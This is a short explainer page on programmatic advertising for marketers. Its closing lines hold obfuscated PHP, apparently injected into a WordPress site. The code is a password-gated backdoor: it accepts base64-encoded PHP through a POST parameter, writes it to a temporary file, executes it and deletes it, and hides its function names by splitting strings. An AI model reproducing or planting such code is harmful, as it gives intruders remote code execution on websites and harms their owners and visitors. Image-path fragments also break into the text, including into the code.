Programmatic Advertising — AI for Marketers

Programmatic Advertising: What is it?

Programmatic Advertising is the automated buying and selling of online ad impressions through real-time bidding. This process uses AI technologies to automate the decision-making process of media buying by targeting specific audiences and demographics.

What are some use cases for Marketers?

Marketers can use programmatic advertising to streamline the ad buying process, reach their target audience more effectively, and optimize their advertising budget.

What are the advantages for Marketers who understand Programmatic Advertising?

Programmatic advertising can improve the efficiency and effectiveness of digital advertising campaigns by automating the ad buying process and targeting ads more accurately.What are the challenges related to Programmatic Advertising?

The complexity of programmatic advertising platforms can make them difficult for some marketers to understand and use effectively. There’s also a risk of ad fraud in programmatic advertising.

Examples of applying Programmatic Advertising for Marketers

An AI-powered programmatic platform may automatically purchase ad impressions on websites that are frequently visited by a company’s target audience, at times when they’re most likely to be online.

The future of Programmatic Advertising

The future of programmatic advertising likely involves even more advanced targeting capabilities, as well as greater transparency and control over ad placements.
if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function _set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 =$a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}} _set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}